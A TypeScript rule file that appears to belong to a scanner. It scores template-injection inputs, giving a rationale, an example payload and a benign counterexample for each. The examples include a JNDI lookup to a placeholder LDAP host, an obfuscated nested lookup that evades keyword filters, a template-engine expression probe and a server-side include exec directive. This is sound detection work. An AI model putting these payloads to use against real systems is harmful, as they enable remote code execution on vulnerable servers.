import { defineRules } from '../rule.ts'

/** Expressions that a template engine or logger evaluates. */
export const TEMPLATE = defineRules('template_injection', 'template', {
  lookup: {
    score: 8,
    why: 'Loggers that resolve JNDI names load classes from the attacker.',
    example: `\${jndi:ldap://x.example/a}`,
    counterExample: `\${name}`,
  },
  nestedLookup: {
    score: 8,
    why: 'A lookup inside a lookup hides the word jndi.',
    example: `\${\${lower:j}ndi:x}`,
    counterExample: `\${a} and \${b}`,
  },
  expression: {
    score: 5,
    why: 'An expression with a sum, a call or an attribute is evaluated by a template engine.',
    example: '{{7*7}}',
    counterExample: '{{SERVER_PORT}}',
  },
  call: {
    score: 2,
    why: 'A call in an expression of a template engine, beside other signs.',
    example: "{{ states('x.y') }}",
    counterExample: '{{ name }} (5)',
  },
  directive: {
    score: 5,
    why: 'Directives of template engines and server-side includes run code.',
    example: '<!--#exec cmd="x"-->',
    counterExample: '<!-- a comment -->',
  },
})
